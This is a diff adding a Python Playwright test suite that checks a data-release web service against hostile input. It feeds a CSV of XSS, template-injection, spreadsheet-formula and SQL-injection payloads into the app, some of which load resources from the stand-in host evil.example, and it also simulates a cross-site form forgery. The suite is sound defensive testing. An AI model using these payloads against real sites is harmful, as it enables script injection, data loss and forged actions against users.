@@ -1,0 +1,213 @@
+"""A browser against hostile names and values, and against forms of other sites."""
+
+from __future__ import annotations
+
+import csv
+import random
+import shutil
+from pathlib import Path
+
+import pytest
+from service_support import PASSWORD, running
+
+from aegis.policy.load import write_mapping
+from aegis.service.settings import Settings
+
+BROWSER = shutil.which("chromium")
+pytestmark = pytest.mark.skipif(BROWSER is None, reason="needs Chromium")
+ARGUMENTS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+]
+PAYLOADS = (
+    "<img src=x onerror=window.owned=1>",
+    '"><script>window.owned=1</script>',
+    "</textarea><script src=//evil.example/x.js></script>",
+    "'-window.owned=1-'",
+    "{{7*7}}${7*7}<%= 7*7 %>",
+    "javascript:window.owned=1",
+    "=cmd|' /C calc'!A0",
+    "<svg/onload=window.owned=1>",
+    "'; DROP TABLE log; --",
+    '<a href="javascript:window.owned=1" hx-get="http://evil.example/" hx-trigger="load">x</a>',
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "\u202egnp.exe",
+)
+NAMES = (PAYLOADS[0], PAYLOADS[1], PAYLOADS[9])
+
+
+def write_hostile(path: Path) -> None:
+    draw = random.Random(3)
+    with path.open("w", newline="", encoding="utf-8") as file:
+        out = csv.writer(file)
+        out.writerow([*NAMES, "label"])
+        for _ in range(600):
+            out.writerow([draw.choice(PAYLOADS) for _ in NAMES] + [draw.choice("ab")])
+
+
+POLICY = write_mapping(
+    {
+        "version": 1,
+        "label": "label",
+        "privacy": {"k": 3, "suppression": 0.5},
+        "attributes": {
+            name: {"role": "quasi-identifier", "masks": ["identity", "suppress"]} for name in NAMES
+        },
+    }
+)
+
+
+@pytest.fixture(scope="module")
+def chromium():
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as player:
+        browser = player.chromium.launch(executable_path=BROWSER, args=ARGUMENTS)
+        yield browser
+        browser.close()
+
+
+class Watch:
+    """What a page did that it must not."""
+
+    def __init__(self, page, origin: str) -> None:
+        self.wrong: list[str] = []
+        self.page, self.origin = page, origin
+        page.set_default_timeout(120_000)
+        page.on("dialog", lambda box: (self.wrong.append(f"dialog {box.message}"), box.dismiss()))
+        page.on("console", self._console)
+        page.on("request", self._request)
+
+    def _console(self, told) -> None:
+        if told.type == "error" and "status of" not in told.text:
+            self.wrong.append(told.text)
+
+    def _request(self, call) -> None:
+        if not call.url.startswith((self.origin, "data:")):
+            self.wrong.append(call.url)
+
+    def visit(self, path: str) -> list[str]:
+        """Open a page, open all that is folded, and return where its links lead."""
+        self.page.goto(f"{self.origin}{path}")
+        self.page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true })")
+        self.check(path)
+        found = self.page.eval_on_selector_all("a[href]", "all => all.map(a => a.href)")
+        return [
+            link.removeprefix(self.origin)
+            for link in found
+            if link.startswith(f"{self.origin}/") and "#" not in link
+        ]
+
+    def check(self, where: str) -> None:
+        assert self.page.evaluate("window.owned") is None, where
+        assert not self.wrong, (where, self.wrong)
+
+
+DOWNLOADS = ("/download", "/certificate", ".json", ".jsonld", ".yaml", "/static/")
+
+
+def crawl(watch: Watch) -> set[str]:
+    seen: set[str] = set()
+    waiting = ["/"]
+    while waiting:
+        path = waiting.pop()
+        if path in seen or any(part in path for part in DOWNLOADS):
+            continue
+        seen.add(path)
+        waiting += watch.visit(path)
+    return seen
+
+
+@pytest.fixture(scope="module")
+def hostile(place):
+    """A data set of payloads, taken from registration to a release."""
+    write_hostile(place.folder / "hostile.csv")
+    place.agent.settings.sources["hostile"] = str(place.folder / "hostile.csv")
+    with place.client("paula") as paula, place.client("otto") as otto:
+        paula.register(
+            "hostile",
+            source="hostile",
+            public_key=place.key,
+            title=PAYLOADS[1],
+            description=" ".join(PAYLOADS),
+            terms=PAYLOADS[2],
+            population=PAYLOADS[4],
+            public=True,
+        )
+        paula.ask_summary("hostile", POLICY, protect="noise", epsilon=8.0)
+        place.work()
+        paula.publish("hostile")
+        paula.grant("hostile", "otto", "operator")
+        with place.client("clara") as clara:
+            number = clara.request("hostile", PAYLOADS[0], terms_accepted=True)["id"]
+        otto.step(number, "review")
+        otto.step(number, "choose")
+        place.work()
+        otto.step(number, "approve")
+        otto.step(number, "run")
+        place.work()
+        assert otto.shown(number)["state"] == "released"
+    return number
+
+
+@pytest.mark.parametrize("name", ["paula", "otto", "clara", "aude"])
+def test_payloads_of_a_data_set_stay_text(place, hostile, chromium, name):
+    page = chromium.new_page()
+    watch = Watch(page, place.url)
+    page.goto(place.url)
+    page.fill("#name", name)
+    page.fill("#password", PASSWORD)
+    page.click("main button")
+    page.wait_for_selector("nav a")
+    seen = crawl(watch)
+    assert {"/", "/requests", "/data-sets/hostile", f"/requests/{hostile}"} <= seen
+    if name == "otto":
+        assert "/data-sets/hostile/workbench" in seen
+    page.close()
+
+
+def test_payloads_of_ones_own_table_stay_text(tmp_path, chromium):
+    write_hostile(tmp_path / "<img src=x onerror=window.owned=1>.csv")
+    with running(Settings(local=True, folder=tmp_path, worker=False)) as url:
+        page = chromium.new_page()
+        watch = Watch(page, url)
+        crawl(watch)
+        page.goto(url)
+        page.click("td a")
+        page.select_option("#label", "label")
+        page.click("text=Open it")
+        page.wait_for_selector("#controls")
+        page.click("text=Find the best")
+        page.wait_for_selector("#best .headline, #best .problem")
+        page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true })")
+        watch.check("bench")
+        page.close()
+
+
+def test_a_form_of_another_site_changes_nothing(place, chromium):
+    """A page elsewhere that sends a form with the browser of who is signed in."""
+    number = place.ask()
+    context = chromium.new_context()
+    page = context.new_page()
+    page.goto(place.url)
+    page.fill("#name", "clara")
+    page.fill("#password", PASSWORD)
+    page.click("main button")
+    page.wait_for_selector("nav a")
+    trap = (
+        f"<form method=post action='{place.url}/requests/{number}/withdraw'>"
+        "<input name=form_key value=guessed><button>win</button></form>"
+    )
+    page.route("http://evil.example/**", lambda r: r.fulfill(body=trap, content_type="text/html"))
+    page.goto("http://evil.example/")
+    with page.expect_response(lambda answer: answer.url.endswith("/withdraw")) as sent:
+        page.click("button")
+    assert sent.value.status == 403
+    with place.client("clara") as clara:
+        assert clara.shown(number)["state"] == "in review"
+    context.close()
